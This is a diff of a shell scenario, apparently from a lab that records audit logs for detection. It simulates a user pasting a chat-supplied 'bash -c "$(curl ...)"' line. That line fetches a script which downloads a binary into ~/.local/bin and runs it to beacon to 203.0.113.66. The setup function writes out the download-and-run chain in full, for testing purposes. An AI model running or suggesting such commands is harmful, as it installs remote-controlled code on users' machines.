@@ -2,17 +2,16 @@
 title="bash -c with a fetched text, pasted shortly after a visit to a chat service"
 what="dev has an outside chat page open. Half a minute later a short line from it is pasted into a terminal: bash -c with a curl in a command substitution. The shell gets the script as an argument; it writes a program into ~/.local/bin and starts it, which connects to 203.0.113.66."
 host=ws3.example.org user=dev daemons="cron" audit_format=RAW
-stand_ins=("/usr/lib/firefox-esr/firefox-esr stands in for Firefox: it fetches one file and writes it as Firefox does (name, .part, rename)")
 
 setup() {
-  compile browser /usr/lib/firefox-esr/firefox-esr
   mkdir -p "$base/out/www/i"; echo '<p>paste this</p>' > "$base/out/www/room.html"
   printf 'mkdir -p ~/.local/bin; curl -fsSL -o ~/.local/bin/agentx http://files.example.net/i/a; chmod +x ~/.local/bin/agentx; ~/.local/bin/agentx 203.0.113.66 9001\n' > "$base/out/www/i/x"
   cc -O1 -o "$base/out/www/i/a" "$lab/lib/stand-ins/beacon.c"
 }
 act() {
+  display_up
   small_talk 1
-  desktop_as dev -- /usr/lib/firefox-esr/firefox-esr 203.0.113.82 80 /room.html .cache/mozilla/room; desktop_wait
+  firefox_visit dev http://chat.example.com/room.html
   sleep 6
   console_as dev <<'L'
 bash -c "$(curl -fsSL http://files.example.net/i/x)"
